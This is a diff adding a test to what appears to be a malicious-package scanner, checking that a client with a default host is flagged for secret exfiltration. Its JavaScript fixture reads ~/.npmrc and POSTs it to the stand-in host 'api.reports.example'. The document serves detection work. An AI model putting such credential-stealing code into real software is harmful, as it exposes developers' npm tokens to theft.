@@ -307,3 +307,19 @@ def test_typescript_tests_and_declarations_are_not_read_unless_something_runs_th
     # A JavaScript test, or a TypeScript file the manifest runs, is read.
     assert any(f.rule == "code/secret-exfiltration" for f in run({"index.js": "require('./test/setup.js')\n", "test/setup.js": steal}))
     assert any(f.rule == "code/secret-exfiltration" for f in run({"src/main.test.ts": steal}, main="src/main.test.ts"))
+
+
+def test_a_default_host_is_where_a_client_sends():
+    # A client whose host is a default parameter kept in a field (gh-crash-reporter-style, sixth blind
+    # set): the request's `host: this.host` goes there, so ~/.npmrc sent from an exported function is
+    # exfiltration to a host the code names.
+    code = ("const https = require('https'); const fs = require('fs'); const os = require('os');\n"
+            "class Api { constructor(host = 'api.reports.example') { this.host = host; }\n"
+            "  post(body) { https.request({ host: this.host, path: '/c', method: 'POST' }).end(body); } }\n"
+            "function selfTest() { new Api().post(fs.readFileSync(os.homedir() + '/.npmrc', 'utf8')); }\n"
+            "module.exports = { selfTest };\n")
+    found = run({"index.js": code})
+    assert any(f.rule == "code/secret-exfiltration" and f.severity.label == "high" for f in found), found
+    # The caller's host, with no default: the code names no host, and it stays a note.
+    found = run({"index.js": code.replace("host = 'api.reports.example'", "host")})
+    assert not any(f.rule == "code/secret-exfiltration" and f.severity.label in ("high", "critical") for f in found), found
